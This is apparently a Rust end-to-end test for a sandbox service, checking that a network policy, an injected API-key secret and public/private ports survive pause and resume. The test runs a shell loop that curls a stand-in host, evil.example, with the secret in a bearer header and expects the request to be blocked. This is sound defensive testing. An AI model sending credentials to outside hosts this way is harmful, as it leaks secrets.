//! Policies, secrets and ports after a pause.

use std::time::{Duration, Instant};

use api::policy::Policy;
use api::ports::PutPort;
use api::sandbox::CreateSandbox;
use api::secret::PutSecret;
use e2e::lab::script;
use e2e::service::{small, tiers};
use e2e::world::{World, in_a_world};

use super::WAIT;
use crate::ports::ground::{Application, asked};

/// Value of the secret.
const VALUE: &str = "canary-of-the-pause";

/// Returns the number of requests with the secret's value that the simulated hosts have received.
fn requests_with_the_value(world: &World) -> usize {
    let seen = world.seen();
    let said = seen["said"].as_array().unwrap();
    said.iter().filter(|one| one["headers"]["authorization"] == format!("Bearer {VALUE}")).count()
}

/// After a pause, a policy, a secret and an open port still apply to programs that were already running.
#[test]
#[ignore = "starts real sandboxes"]
fn a_policy_a_secret_and_a_port_outlive_a_pause() {
    in_a_world(async |world| {
        let service = world.service();
        let client = service.client();
        client.put_secret("API_KEY", &PutSecret { value: VALUE.into() }).await.unwrap();
        let words = ["good.example", "secret:API_KEY=good.example/v1"];
        for tier in tiers() {
            let policy = Some(Policy::of_words(&words).unwrap());
            let application = Application::with(&service, CreateSandbox { tier, policy, ..small() }).await;
            let id = application.sandbox.id.clone();
            // The first port is public, the second is private.
            let public = client.put_port(&id, 8000, &PutPort { public: true }).await.unwrap();
            let private = client.port(&id, 8001).await.unwrap();
            let token = format!("bellglass-token: {}", private.token);
            let ask =
                "curl -sk -o /dev/null -w %{http_code} -H \"authorization: Bearer $API_KEY\" --max-time 10";
            let asking = script(&format!(
                "cd /workspace; while :; do {ask} https://good.example/v1/a > new; mv new good; {ask} http://evil.example/ > new; mv new evil; sleep 0.1; done"
            ));
            client.start(&id, &asking).await.unwrap();
            let run = async |text: &str| {
                let done = client.exec(&id, &script(text)).await.unwrap().collect().await.unwrap();
                String::from_utf8_lossy(&done.stdout).into_owned()
            };
            for round in 0..3 {
                // Discards the results of requests before the pause.
                run("rm -f /workspace/good /workspace/evil").await;
                let (since, before) = (Instant::now(), requests_with_the_value(world));
                let mut seen = String::new();
                while seen != "200\n403" {
                    assert!(
                        since.elapsed() < WAIT,
                        "round {round}: the allowed and the denied host: {seen:?}"
                    );
                    tokio::time::sleep(Duration::from_millis(200)).await;
                    seen = run("cat /workspace/good; echo; cat /workspace/evil").await;
                }
                assert!(
                    requests_with_the_value(world) > before,
                    "round {round}: the host did not get the secret"
                );
                assert_eq!(asked(&public.url, &[]).0, 200, "round {round}: the public port without a token");
                assert_eq!(
                    asked(&private.url, &[]).0,
                    401,
                    "round {round}: the private port without a token"
                );
                let reached = asked(&private.url, &["-H", &token]);
                assert!(reached.0 == 502 && reached.1.contains("8001"), "round {round}: {reached:?}");
                assert_eq!(
                    client.port(&id, 8000).await.unwrap().token,
                    application.port.token,
                    "round {round}"
                );
                client.pause(&id).await.unwrap();
                if round == 1 {
                    tokio::time::sleep(Duration::from_secs(20)).await;
                }
                client.resume(&id).await.unwrap();
            }
            client.pause(&id).await.unwrap();
            client.stop(&id).await.unwrap();
        }
        service.assert_nothing_left().await;
    });
}
